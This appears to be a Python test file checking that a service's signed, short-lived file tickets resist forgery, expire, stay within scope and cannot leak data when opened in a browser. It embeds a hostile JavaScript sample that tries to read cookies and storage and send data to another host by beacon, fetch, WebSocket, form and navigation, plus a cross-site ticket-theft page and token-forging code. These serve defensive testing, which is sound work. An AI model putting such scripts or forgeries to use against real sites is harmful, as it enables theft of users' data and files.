"""Tickets: an address opens one file without a key, for a short time, to our own page and to nothing else."""

import asyncio
import base64
import hashlib
import hmac
import io
import json
import socket
import struct
import wave
import zlib
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer

from kit.browser.other_sites import Other, serving, visit
from kit.query.artifacts import insert_artifacts
from kit.query.service import CountingStore, Service
from kit.query.tables import NOW_US, SECOND_US, asset, run
from kit.stores import empty
from runstream.api import API
from runstream.events.artifacts import ArtifactCreated, ArtifactFile, ArtifactVersionLogged, artifact_id
from runstream_ingest.assets.local import LocalAssets
from runstream_processors.store.chdb import ChdbStore
from runstream_query import QuerySettings, add_query
from runstream_service.access import Action, Grant, Principal, Scope, full_principal
from runstream_service.auth import ApiKeys, auth_middleware
from runstream_service.disposition import FILE_POLICY
from runstream_service.origins import add_response_headers
from runstream_service.problems import problem_middleware
from runstream_service.tickets import CLOCK_SLACK_S, PERIOD_S

ALL = full_principal("all")
OF_A = Principal("of-a", (Grant(frozenset({Action.READ}), Scope(frozenset({"a"}))),))
LOGS = Principal("logs", (Grant(frozenset({Action.LOG})),))
TICKETS = "/api/v1/tickets"


def keys_of(*principals: Principal) -> ApiKeys:
    """Keys that are called as their principals."""
    return ApiKeys(tuple((hashlib.sha256(one.name.encode()).digest(), one) for one in principals))


@dataclass
class Guarded(Service):
    """The query service behind authentication, and the pages that it has of its own."""

    page: str = ""

    def application(self, keys: ApiKeys) -> web.Application:
        @web.middleware
        async def pages(request: web.Request, handler: Any) -> web.StreamResponse:
            if request.path != "/page":
                response: web.StreamResponse = await handler(request)
                return response
            policy = "default-src * 'unsafe-inline'"
            return web.Response(text=self.page, content_type="text/html", headers={"Content-Security-Policy": policy})

        app = web.Application(middlewares=[pages, problem_middleware(), auth_middleware(keys)])
        add_response_headers(app)
        add_query(
            app,
            store=self.reads,
            visibility=self.progress,
            log=None,
            assets=self.assets,
            settings=QuerySettings(),
            now_us=lambda: self.now_us,
        )
        return app

    async def keep(self, content: bytes) -> str:
        async def chunks() -> AsyncIterator[bytes]:
            yield content

        sha256 = hashlib.sha256(content).hexdigest()
        await self.assets.write(sha256, chunks(), 10**7)
        return sha256

    async def request_tickets(self, principal: Principal, status: int = 200, /, **wanted: Any) -> Any:
        headers = {"Authorization": f"Bearer {principal.name}"}
        async with self.client.post(TICKETS, json=wanted, headers=headers) as response:
            assert response.status == status, await response.text()
            return await response.json(content_type=None)


@pytest.fixture
async def guarded(module_store: ChdbStore, tmp_path: Path) -> AsyncIterator[Guarded]:
    await empty(module_store)
    service = Guarded(module_store, CountingStore(module_store), LocalAssets(tmp_path / "assets"))
    async with TestClient(TestServer(service.application(keys_of(ALL, OF_A, LOGS)), host="127.0.0.1")) as client:
        service.client = client
        yield service


async def two_workspaces(service: Guarded) -> None:
    """A file in workspace a, another in b, one that is elsewhere, one without a hash, one that is deleted."""
    await service.insert("run_states", run("ra", workspace="a"), run("rb", workspace="b"))
    content = {"a": b"of a", "b": b"of b"}
    hashes = {name: await service.keep(data) for name, data in content.items()}
    await service.insert(
        "asset_states",
        asset("ra", "x", "dir/pic.png", hashes["a"], 4, content_type="image/png"),
        asset("rb", "x", "pic.png", hashes["b"], 4, content_type="image/png"),
        asset("ra", "elsewhere", "f", hashes["a"], 4, location="s3://b/k"),
        asset("ra", "unknown", "f", "0" * 64, 4),
        asset("ra", "gone", "f", hashes["a"], 4, deleted=True),
    )


def of_run(*files: tuple[str, str]) -> list[dict[str, str]]:
    return [{"run": one, "asset": name} for one, name in files]


async def test_a_ticket_opens_its_file_without_a_key(guarded: Guarded) -> None:
    await two_workspaces(guarded)
    wanted = of_run(("rb", "x"), ("ra", "elsewhere"), ("ra", "x"), ("ra", "unknown"), ("ra", "gone"), ("none", "x"))
    made = await guarded.request_tickets(ALL, assets=wanted)
    assert [one is not None for one in made["assets"]] == [True, False, True, False, False, False]
    assert made["files"] == []
    shown = made["assets"][2]
    assert (shown["name"], shown["size_bytes"], shown["content_type"]) == ("dir/pic.png", 4, "image/png")
    statements = len(guarded.reads.requested)
    for ticket, content in zip((made["assets"][0], shown), (b"of b", b"of a"), strict=True):
        async with guarded.client.get(ticket["address"]) as response:
            assert (response.status, await response.read()) == (200, content)
    assert len(guarded.reads.requested) == statements, "to open a ticket takes no statement"
    headers = response.headers
    assert headers["Content-Type"] == "image/png"
    assert headers["Content-Disposition"].startswith('inline; filename="pic.png"')
    assert (headers["X-Content-Type-Options"], headers["Referrer-Policy"]) == ("nosniff", "no-referrer")
    assert headers["Content-Security-Policy"] == FILE_POLICY
    assert headers["Cross-Origin-Resource-Policy"] == "same-origin"
    assert "Set-Cookie" not in headers
    async with guarded.client.get(shown["address"], headers={"Range": "bytes=1-2"}) as response:
        assert (response.status, await response.read()) == (206, b"f ")


async def test_a_ticket_is_made_within_the_scope_of_its_principal(guarded: Guarded) -> None:
    await two_workspaces(guarded)
    made = await guarded.request_tickets(OF_A, assets=of_run(("ra", "x"), ("rb", "x")))
    assert [one is not None for one in made["assets"]] == [True, False]
    await guarded.request_tickets(LOGS, 403, assets=of_run(("ra", "x")))
    assert "at least one" in (await guarded.request_tickets(ALL, 400))["detail"]


async def test_files_of_versions_have_tickets_too(guarded: Guarded) -> None:
    sha256, model = await guarded.keep(b"<p>card"), artifact_id("a", None, "model", "m")
    files = (
        ArtifactFile(name="card.html", sha256=sha256, size_bytes=7, content_type="text/html"),
        ArtifactFile(name="link", link="s3://b/k"),
    )
    about: dict[str, Any] = {"at_us": NOW_US, "workspace": "a", "artifact_type": "model", "name": "m"}
    created, logged = ArtifactCreated(**about), ArtifactVersionLogged(**about, version="1", files=files)
    await insert_artifacts(guarded, created, logged)
    wanted = [{"artifact": model, "ordinal": 1, "name": name} for name in ("card.html", "link", "none")]
    made = (await guarded.request_tickets(OF_A, files=wanted))["files"]
    assert [one is not None for one in made] == [True, False, False]
    async with guarded.client.get(made[0]["address"], headers={"Sec-Fetch-Dest": "iframe"}) as response:
        assert await response.read() == b"<p>card"
        assert "sandbox allow-scripts; default-src 'none'" in response.headers["Content-Security-Policy"]
        assert response.headers["Cache-Control"] == "no-store"
    async with guarded.client.get(made[0]["address"], headers={"Sec-Fetch-Dest": "document"}) as response:
        assert response.headers["Content-Security-Policy"] == FILE_POLICY, "in a tab of its own nothing runs"


async def test_a_ticket_ends_after_ten_minutes_at_most(guarded: Guarded) -> None:
    await two_workspaces(guarded)
    guarded.now_us = 1_000_000 * PERIOD_S * SECOND_US
    made = await guarded.request_tickets(ALL, assets=of_run(("ra", "x")))
    address = made["assets"][0]["address"]
    guarded.now_us += (PERIOD_S - 1) * SECOND_US
    again = await guarded.request_tickets(ALL, assets=of_run(("ra", "x")))
    assert again["assets"][0]["address"] == address, "a browser keeps what it has"
    begun_us, end_us = guarded.now_us, guarded.now_us + (PERIOD_S + 1) * SECOND_US
    for now_us, status in (
        (end_us - SECOND_US, 200),
        (end_us + (CLOCK_SLACK_S - 1) * SECOND_US, 200),
        (end_us + CLOCK_SLACK_S * SECOND_US, 403),
        # Of a server whose clock is ahead by more than the slack.
        (begun_us - (PERIOD_S + CLOCK_SLACK_S) * SECOND_US, 403),
    ):
        guarded.now_us = now_us
        async with guarded.client.get(address) as response:
            assert response.status == status, now_us
            if status == 403:
                assert "POST /api/v1/tickets" in (await response.json(content_type=None))["detail"]


async def test_no_ticket_is_forged_and_a_key_takes_its_tickets_along(guarded: Guarded) -> None:
    await two_workspaces(guarded)
    made = await guarded.request_tickets(OF_A, assets=of_run(("ra", "x")))
    address = made["assets"][0]["address"]
    content, _, signature = address.removeprefix(f"{TICKETS}/").partition(".")
    other = json.loads(base64.urlsafe_b64decode(content + "=="))
    other[0] = hashlib.sha256(b"of b").hexdigest()
    forged = base64.urlsafe_b64encode(json.dumps(other).encode()).rstrip(b"=").decode()
    for text in (f"{forged}.{signature}", f"{content}.{signature[:-1]}", content, f"{content}.", f".{signature}"):
        async with guarded.client.get(f"{TICKETS}/{text}") as response:
            assert response.status == 403, text
    signed_by_none = hashlib.sha256(b"").digest()
    known = signed_by_everybody(base64.urlsafe_b64decode(content + "=="))
    async with guarded.client.get(f"{TICKETS}/{known}") as response:
        assert response.status == 403
    for keys, status in ((keys_of(ALL, OF_A), 200), (keys_of(ALL), 403), (ApiKeys(((signed_by_none, ALL),)), 403)):
        async with (
            TestClient(TestServer(guarded.application(keys), host="127.0.0.1")) as client,
            client.get(address) as response,
        ):
            assert response.status == status


def signed_by_everybody(content: bytes) -> str:
    """A ticket as anybody may sign one for a server without keys."""
    secret = hmac.digest(b"", b"runstream token file-tickets", hashlib.sha256)
    text = base64.urlsafe_b64encode(content).rstrip(b"=")
    signature = base64.urlsafe_b64encode(hmac.digest(secret, text, hashlib.sha256)).rstrip(b"=")
    return f"{text.decode()}.{signature.decode()}"


async def test_addresses_in_python(guarded: Guarded) -> None:
    await two_workspaces(guarded)
    api = API(url=str(guarded.client.make_url("")), api_key=ALL.name)
    files = [*await asyncio.to_thread(api.assets, "ra"), *await asyncio.to_thread(api.assets, "rb")]
    addresses = await asyncio.to_thread(api.assets.addresses, files)
    opened = {}
    for file, address in zip(files, addresses, strict=True):
        if address is not None:
            async with aiohttp.request("GET", address) as response:
                opened[file.run, file.asset] = await response.read()
    assert opened == {("ra", "x"): b"of a", ("rb", "x"): b"of b"}


async def test_a_server_without_keys_has_tickets_too(guarded: Guarded) -> None:
    await two_workspaces(guarded)
    async with TestClient(TestServer(guarded.application(ApiKeys()), host="127.0.0.1")) as client:
        async with client.post(TICKETS, json={"assets": of_run(("ra", "x"))}) as response:
            address = (await response.json())["assets"][0]["address"]
        async with client.get(address) as response:
            assert await response.read() == b"of a"
        for content in (b"none", b"[1]", b'[1,"n","t",9]', b'["x","n","t","9"]', b"[" * 5_000, b"\xff"):
            async with client.get(f"{TICKETS}/{signed_by_everybody(content)}") as response:
                assert response.status == 403, content
    async with guarded.client.get(address) as response:
        assert response.status == 403, "where there are keys everybody could have signed it"


def picture() -> bytes:
    """A PNG of one pixel."""
    chunks = (
        (b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)),
        (b"IDAT", zlib.compress(b"\0\0")),
        (b"IEND", b""),
    )
    packed = (struct.pack(">I", len(data)) + kind + data for kind, data in chunks)
    with_sums = (one + struct.pack(">I", zlib.crc32(one[4:])) for one in packed)
    return b"\x89PNG\r\n\x1a\n" + b"".join(with_sums)


def sound() -> bytes:
    """Two minutes of silence, of which a player requests parts."""
    with io.BytesIO() as file:
        with wave.open(file, "wb") as written:
            written.setnchannels(1)
            written.setsampwidth(2)
            written.setframerate(8_000)
            written.writeframes(bytes(2 * 8_000 * 120))
        return file.getvalue()


#: A page or picture that somebody logged: everything that could carry something away, and what it found out.
HOSTILE = """
const told = {origin: self.origin};
const attempt = (name, work) => { try { told[name] = String(work()); } catch (error) { told[name] = error.name; } };
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("parent", () => parent.document.title);
attempt("top", () => { top.location = `${other}/top`; });
attempt("open", () => window.open(`${other}/open`));
attempt("beacon", () => navigator.sendBeacon(`${other}/beacon`, "x"));
attempt("socket", () => new WebSocket(`${other.replace("http", "ws")}/socket`).url);
attempt("stream", () => new EventSource(`${other}/stream`).url);
attempt("worker", () => new Worker(`${other}/worker`));
attempt("rtc", () => {
  const peer = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${stun}`}]});
  peer.createDataChannel("x");
  peer.createOffer().then(offer => peer.setLocalDescription(offer)).catch(() => 0);
});
const html = name => document.createElementNS("http://www.w3.org/1999/xhtml", name);
const root = document.body || document.documentElement;
const add = (tag, members) => { const made = Object.assign(html(tag), members); root.append(made); return made; };
add("img", {src: `${other}/image`});
add("script", {src: `${other}/script`});
add("link", {rel: "stylesheet", href: `${other}/style`});
add("link", {rel: "prefetch", href: `${other}/prefetch`});
add("link", {rel: "preconnect", href: other});
add("iframe", {src: `${other}/iframe`});
add("video", {src: `${other}/video`});
add("object", {data: `${other}/object`});
attempt("form", () => add("form", {method: "post", action: `${other}/form`}).submit());
for (const address of [`${other}/fetch`, `${own}/api/v1/runs`, `${own}/api/v1/key`])
  fetch(address, {method: "GET", mode: "no-cors"}).then(() => { told[address] = "sent"; }, () => 0);
setTimeout(() => parent.postMessage(JSON.stringify(told), "*"), 700);
setTimeout(() => { location.href = `${other}/navigated?${encodeURIComponent(location.href)}`; }, 900);
"""
#: Our own page: what it shows by tickets, and what came of it.
SHOWS = """<!doctype html><title>ours</title><body><script>
const told = {frames: []};
addEventListener("message", event => told.frames.push([event.origin, JSON.parse(event.data)]));
const add = (tag, members) => { const made = Object.assign(document.createElement(tag), members);
  document.body.append(made); return made; };
const happens = (element, good) => new Promise(done => {
  element.addEventListener(good, () => done(good), {once: true});
  element.addEventListener("error", () => done("error"), {once: true});
});
const framed = address => { const made = document.createElement("iframe"); made.sandbox = "allow-scripts";
  made.src = address; document.body.append(made); return made; };
async function go() {
  const image = add("img", {src: tickets.image});
  told.image = [await happens(image, "load"), image.naturalWidth];
  const drawing = add("img", {src: tickets.svg});
  told.drawing = await happens(drawing, "load");
  const video = add("video", {src: tickets.sound, muted: true, preload: "metadata"});
  told.sound = [await happens(video, "loadedmetadata"), Math.round(video.duration)];
  video.currentTime = 100;
  told.seek = await happens(video, "seeked");
  framed(tickets.html); framed(tickets.svg);
  for (let waited = 0; told.frames.length < 2 && waited < 60000; waited += 100)
    await new Promise(done => setTimeout(done, 100));
  await new Promise(done => setTimeout(done, 1500));
  await fetch(`${other}/done`, {method: "POST", mode: "no-cors", body: JSON.stringify(told)});
}
go();
</script>"""
#: Another site, which learned the addresses.
STEALS = """<!doctype html><body><script>
const add = (tag, members) => new Promise(done => { const made = Object.assign(document.createElement(tag), members);
  for (const kind of ["load", "error", "loadedmetadata"]) made.addEventListener(kind, () => done(kind), {once: true});
  document.body.append(made); });
async function go() {
  const told = {image: await add("img", {src: tickets.image}), sound: await add("video", {src: tickets.sound})};
  await add("iframe", {src: tickets.html});
  await add("script", {src: tickets.html});
  for (const mode of ["no-cors", "cors"])
    told[mode] = await fetch(tickets.image, {mode}).then(found => found.text(), () => "nothing");
  await fetch("/done", {method: "POST", body: JSON.stringify(told)});
}
go();
</script>"""


class Seeing(Other):
    """Another site, and what was requested there besides its page."""

    def __init__(self) -> None:
        super().__init__()
        self.requested: list[str] = []

    def application(self) -> web.Application:
        @web.middleware
        async def noted(request: web.Request, handler: Any) -> web.StreamResponse:
            if request.path not in ("/", "/done", "/favicon.ico"):
                self.requested.append(request.path_qs)
            response: web.StreamResponse = await handler(request)
            return response

        app = super().application()
        app.middlewares.append(noted)
        return app


async def shown_files(service: Guarded, other: str, own: str, stun: int) -> dict[str, str]:
    """Log what a page shows, and return the path of each by a ticket."""
    script = f"const other = {other!r}, own = {own!r}, stun = {stun};{HOSTILE}"
    drawing = (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script><![CDATA[{script}]]></script></svg>'
    )
    contents = {
        "image": (picture(), "image/png"),
        "sound": (sound(), "audio/wav"),
        "html": (f"<!doctype html><body><script>{script}</script>".encode(), "text/html"),
        "svg": (drawing.encode(), "image/svg+xml"),
    }
    rows = [
        asset("r", name, name, await service.keep(content), len(content), content_type=kind)
        for name, (content, kind) in contents.items()
    ]
    await service.insert("run_states", run("r"))
    await service.insert("asset_states", *rows)
    made = await service.request_tickets(ALL, assets=of_run(*(("r", name) for name in contents)))
    return {name: ticket["address"] for name, ticket in zip(contents, made["assets"], strict=True)}


async def test_our_own_page_shows_files_that_can_send_nothing_anywhere(guarded: Guarded, tmp_path: Path) -> None:
    other = Seeing()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun:
        stun.bind(("127.0.0.1", 0))
        stun.setblocking(False)
        async with serving(other.application()) as other_port:
            elsewhere, own = f"http://127.0.0.1:{other_port}", str(guarded.client.make_url("")).rstrip("/")
            tickets = await shown_files(guarded, elsewhere, own, stun.getsockname()[1])
            begins = f"<script>const other = {elsewhere!r}, tickets = {json.dumps(tickets)};"
            guarded.page = SHOWS.replace("<script>", begins, 1)
            told = json.loads(await visit(f"{own}/page", other, tmp_path / "profile"))
        with pytest.raises(BlockingIOError):
            stun.recv(100)
    assert told["image"] == ["load", 1]
    assert told["drawing"] == "load"
    assert told["sound"] == ["loadedmetadata", 120]
    assert told["seek"] == "seeked"
    assert [origin for origin, _ in told["frames"]] == ["null", "null"], "the page and the picture ran in their frames"
    for _, found in told["frames"]:
        assert found["origin"] == "null"
        for name in ("cookie", "storage", "parent", "top"):
            assert found[name] == "SecurityError", (name, found)
        assert found["open"] == "null"
        assert not [name for name in found if name.startswith("http")], found
    assert other.requested == []


async def test_a_page_of_another_site_cannot_use_a_ticket(guarded: Guarded, tmp_path: Path) -> None:
    other = Seeing()
    async with serving(other.application()) as other_port:
        own = str(guarded.client.make_url("")).rstrip("/")
        tickets = await shown_files(guarded, own, own, 9)
        addresses = {name: f"{own}{path}" for name, path in tickets.items()}
        other.page = STEALS.replace("<script>", f"<script>const tickets = {json.dumps(addresses)};", 1)
        url = f"http://other.localhost:{other_port}/"
        told = json.loads(await visit(url, other, tmp_path / "profile"))
    assert told == {"image": "error", "sound": "error", "no-cors": "nothing", "cors": "nothing"}
